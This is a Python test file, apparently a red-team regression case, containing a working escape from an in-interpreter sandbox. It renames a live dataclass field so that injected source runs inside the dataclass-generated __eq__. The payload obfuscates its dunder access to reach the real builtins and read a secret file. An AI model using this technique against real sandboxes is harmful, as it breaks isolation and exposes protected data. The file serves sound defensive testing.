# mypy: ignore-errors
# Technique: `dataclasses.fields()` hands out the live `Field` objects; renaming one pastes
# guest text into the source dataclasses `exec`s when a subclass is decorated (here its
# generated `__eq__`), where no AST check applies: dunder attributes reach the real builtins.
# Found in the red-team pass of the in-interpreter layer; was a real in-interpreter escape
# before the fix.
import dataclasses

from suaveplan import fs  # noqa: F401 - named by the injected source

SECRET = ""


@dataclasses.dataclass
class Base:
    x: int = 0


def attack(secret_path, canary_path):
    global SECRET
    SECRET = secret_path
    field = dataclasses.fields(Base)[0]
    g = "_" + "_globals_" + "_"
    field.name = (
        "x) or print('SANDBOX-' + 'ESCAPED') or "
        f"fs.read_text.{g}['_b'].open(SECRET).read() or (self"
    )

    @dataclasses.dataclass(init=False, repr=False)
    class Child(Base):
        pass

    return Child() == Child()
